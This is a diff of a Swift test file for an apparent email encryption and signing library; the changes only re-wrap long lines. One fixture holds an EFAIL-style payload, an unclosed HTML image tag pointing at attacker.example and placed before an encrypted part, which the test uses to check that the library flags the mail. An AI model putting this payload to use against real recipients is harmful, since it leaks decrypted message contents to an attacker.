@@ -86,12 +86,14 @@ struct MailProgramTests {
         let fixture = try await InwardFixture()
         let part = try program.enveloped(program.letter, to: fixture.alice)
         let mail = program.mail(
-            MailShapes.multipart("mixed", ["Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n", part], boundary: "outer"))
+            MailShapes.multipart(
+                "mixed", ["Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n", part], boundary: "outer"))
         let copy = try await fixture.delivered(mail)
         #expect(copy.keeps(mail) && !copy.showsMark && copy.info("Encrypted-Part-Not-Root") == "True")
     }
 
-    @Test("A-34: embedded content, zero signers and two From mailboxes in the form of each program: never valid", arguments: MailProgram.all)
+    @Test(
+        "A-34: embedded content, zero signers and two From mailboxes in the form of each program: never valid", arguments: MailProgram.all)
     func a34(_ program: MailProgram) async throws {
         let fixture = try await InwardFixture()
         let good = try program.signed(program.letter, by: fixture.bob)
